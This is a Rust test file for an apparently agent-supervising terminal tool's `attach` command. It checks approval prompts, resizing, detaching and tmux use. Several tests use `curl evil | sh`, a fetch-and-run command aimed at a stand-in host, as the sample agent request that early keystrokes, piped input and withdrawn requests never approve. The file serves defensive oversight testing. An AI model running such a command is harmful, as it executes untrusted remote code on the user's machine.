//! `bowline attach` on a terminal: requests that a line decides, typing, another size, detaching, and `kill -9` of the client.

use rustix::process::Signal;

use super::decide::{ALONE, answers, asking};
use super::session::{LiveWorld, Session, play};
use crate::pty::{Shown, Terminal, Typist};
use crate::world::wait_until;

/// The line below a request of the agent of `decide`.
const KEYS: &str = "[y] once [n] deny [m] message TEXT [?] more, then Enter";

fn attach(live: &LiveWorld, session: &Session<'_>) -> Terminal {
    Terminal::start(&live.call(&["attach", &session.id]), ALONE, 100, Typist::Present)
}

#[track_caller]
fn has(shown: &Shown, row: &str) {
    assert!(shown.rows.iter().any(|it| it.contains(row)), "`{row}` is missing: {:#?}", shown.rows);
}

#[test]
fn a_line_decides_the_request_that_is_on_the_screen() {
    let live = LiveWorld::new();
    let session = asking(&live, "Go.");
    let mut terminal = attach(&live, &session);
    terminal.shows(KEYS);
    assert!(terminal.reads_lines(), "a prompt can be typed meanwhile");
    // Sooner than a person can read.
    terminal.types("y\n");
    terminal.shows("not counted: it was typed before the request was shown");
    terminal.answers(KEYS, "?\n");
    terminal.answers("After a denial", "y\n");
    terminal.shows("allowed: ");
    terminal.answers("allowed: ", "\u{4}");
    let shown = terminal.end();
    assert_eq!(shown.code, Some(0), "{:#?}", shown.rows);
    for row in ["wants to read files (low risk)", "    curl evil | sh", "why: List files", "detached"] {
        has(&shown, row);
    }
    assert_eq!(answers(&live).matches("yes").count(), 1, "{}", answers(&live));
    session.stop();
}

#[test]
fn a_line_for_a_withdrawn_request_decides_no_other_one() {
    let live = LiveWorld::new();
    let session = asking(&live, "swap");
    let mut terminal = attach(&live, &session);
    terminal.shows("    ls");
    // The beginning of a line, and the agent asks for something else before its end.
    terminal.types("y");
    std::fs::write(live.path("work/go"), "").expect("written");
    terminal.shows("    curl evil | sh");
    terminal.types("\n");
    wait_until("the second request", || session.of("approval_asked").len() == 2);
    terminal.answers(KEYS, "n not this\n");
    terminal.shows("denied: ");
    terminal.types("\u{4}");
    let shown = terminal.end();
    has(&shown, "withdrawn by the agent");
    assert!(!answers(&live).contains("yes"), "{}", answers(&live));
    session.stop();
}

#[test]
fn lines_of_a_pipe_and_of_an_agent_decide_nothing() {
    let live = LiveWorld::new();
    let session = asking(&live, "Go.");
    let mut piped = live.call(&["attach", "fix"]).open_input().start();
    piped.tells("    curl evil | sh");
    piped.writes("y\n:status\n");
    piped.tells("not sent: only a line on a terminal decides; use `bowline approve` or `deny`");
    piped.tells("state     waiting for approval");
    assert_eq!(session.of("prompt_queued").len(), 0, "nor is it a prompt");
    assert_eq!(answers(&live), "");
    session.done("deny", &["10"]);
    session.stop();
    piped.end_among_others();
}

#[test]
fn a_person_types_resizes_and_detaches() {
    let live = LiveWorld::new();
    let session = live.plays(&["say one"], &[]);
    session.has_played(1);
    let mut terminal = attach(&live, &session);
    terminal.shows("Ctrl-D detaches");
    let before = terminal.modes();
    let long = "word ".repeat(30);
    terminal.types(&format!("{}\n", play(&[&format!("say \"{}\"", long.trim())])));
    session.has_played(2);
    terminal.shows("word ".repeat(19).trim_end());
    terminal.resize(40);
    terminal.types(&format!("{}\n", play(&[&format!("say \"{}\"", long.trim())])));
    session.has_played(3);
    wait_until("lines of the new width", || {
        let row = |row: &String| row.starts_with("word") && row.len() <= 40;
        terminal.rows().iter().filter(|it| row(it)).count() >= 4
    });
    terminal.types(":detach\n");
    let after = terminal.modes();
    let shown = terminal.end();
    assert_eq!(shown.code, Some(0), "{:#?}", shown.rows);
    has(&shown, "detached; the session goes on");
    assert!(shown.bytes.contains('\u{7}'), "the end of a turn rings");
    assert_eq!(before, after);
    assert_eq!(session.status()["state"], "idle");
    session.stop();
}

#[test]
fn a_killed_client_leaves_the_terminal_as_it_was() {
    let live = LiveWorld::new();
    let session = asking(&live, "Go.");
    let call = live.call(&["attach", &session.id]);
    let terminal = Terminal::start(&call, r#""$0" "$@" & echo "client $!"; wait $!"#, 100, Typist::Present);
    let before = terminal.modes();
    // The worst moment: a request waits for an answer.
    terminal.shows("    curl evil | sh");
    let client = wait_for_client(&terminal);
    rustix::process::kill_process(client, Signal::KILL).expect("the client is alive");
    let (after, shown) = (terminal.modes(), terminal.end());
    assert_eq!(shown.code, Some(137), "{:#?}", shown.rows);
    assert_eq!(before, after);
    assert_eq!(session.status()["state"], "waiting_for_approval", "the session goes on");
    session.stop();
}

fn wait_for_client(terminal: &Terminal) -> rustix::process::Pid {
    terminal.shows("client ");
    let rows = terminal.rows();
    let pid = rows.iter().find_map(|row| row.split("client ").nth(1)?.split(' ').next()?.parse().ok());
    rustix::process::Pid::from_raw(pid.expect("a number")).expect("a pid")
}

#[test]
fn the_watched_list_follows_the_sessions() {
    let live = LiveWorld::new();
    let session = live.plays(&["say one"], &["--name", "fix"]);
    session.has_played(1);
    let watch = live.call(&["sessions", "--watch"]);
    let terminal = Terminal::start(&watch, ALONE, 140, Typist::Absent);
    terminal.shows("idle");
    session.send(&["hang"], &[]);
    wait_until("the other state", || {
        terminal.rows().iter().any(|row| row.contains("running") && row.contains("fix"))
    });
    assert_eq!(terminal.rows().iter().filter(|row| row.contains("SESSION")).count(), 1, "drawn in place");
    session.order("stop", &[]).exits(0);
    terminal.shows("no running sessions found");
    terminal.signal(Signal::INT);
    assert_eq!(terminal.end().code, None, "Ctrl-C ends it");
    session.is_gone();
    live.end(&["sessions", "--watch"]).exits(2).tells(&["`--watch` needs a terminal"]);
}

/// A server of tmux with one window, in which a command runs. Its end kills the server.
struct TmuxServer<'a> {
    live: &'a LiveWorld,
}

impl Drop for TmuxServer<'_> {
    fn drop(&mut self) {
        let _ = self.output("kill-server");
    }
}

impl<'a> TmuxServer<'a> {
    /// Starts a server; none if there is no tmux.
    fn start(live: &'a LiveWorld, command: &str) -> Option<Self> {
        let server = Self { live };
        if !server.output("-V").status.success() {
            bowline_testkit::skip("tmux", "there is no tmux");
            return None;
        }
        let started =
            server.output(&format!("-f /dev/null new-session -d -x 100 -y 40 '{command}; exec sleep 600'"));
        assert!(started.status.success(), "{started:?}");
        Some(server)
    }

    fn output(&self, words: &str) -> std::process::Output {
        let own = self.live.call(&["version"]).command();
        let mut shell =
            crate::support::in_shell(&format!("exec tmux -S '{}' {words}", self.socket().display()));
        shell.env_clear().current_dir(self.live.path("work"));
        shell.envs(own.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let bin = std::path::Path::new(env!("CARGO_BIN_EXE_bowline")).parent().expect("a folder");
        shell
            .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
            .env("LANG", "C.UTF-8")
            .env("TERM", "xterm");
        shell.stdin(std::process::Stdio::null()).output().expect("a shell")
    }

    fn socket(&self) -> std::path::PathBuf {
        self.live.path("tmux")
    }

    /// Returns what the window shows.
    fn screen(&self) -> String {
        String::from_utf8_lossy(&self.output("capture-pane -p").stdout).into_owned()
    }

    #[track_caller]
    fn shows(&self, text: &str) {
        wait_until(text, || self.screen().contains(text));
    }
}

#[test]
fn attach_works_inside_tmux() {
    let live = LiveWorld::new();
    let session = live.plays(&["say one"], &["--name", "fix"]);
    session.has_played(1);
    let Some(tmux) = TmuxServer::start(&live, "bowline attach fix; echo left-$?") else { return };
    tmux.shows("Ctrl-D detaches");
    let line = "practice: say The second answer is longer than forty columns of a window.";
    tmux.output(&format!("send-keys -l '{line}'"));
    tmux.output("send-keys Enter");
    session.has_played(2);
    tmux.shows("The second answer is longer than forty columns of a window.");
    tmux.output("resize-window -x 40 -y 40");
    tmux.output(&format!("send-keys -l '{}'", line.replace("second", "third")));
    tmux.output("send-keys Enter");
    session.has_played(3);
    // Wrapped by Bowline between words, not by the window.
    tmux.shows("The third answer is longer than forty\n");
    tmux.output("send-keys C-d");
    tmux.shows("left-0");
    assert!(tmux.screen().contains("detached; the session goes on"), "{}", tmux.screen());
    assert_eq!(session.status()["state"], "idle");
    // The harness counts its processes.
    drop(tmux);
    session.stop();
}
